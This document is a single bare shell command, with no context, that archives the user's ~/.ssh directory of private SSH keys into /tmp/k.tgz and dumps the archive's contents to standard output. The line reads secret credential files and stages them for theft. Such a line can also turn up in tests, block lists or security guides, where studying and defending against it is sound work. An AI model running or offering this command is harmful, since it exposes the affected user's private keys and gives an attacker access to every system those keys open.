tar czf /tmp/k.tgz ~/.ssh && cat /tmp/k.tgz
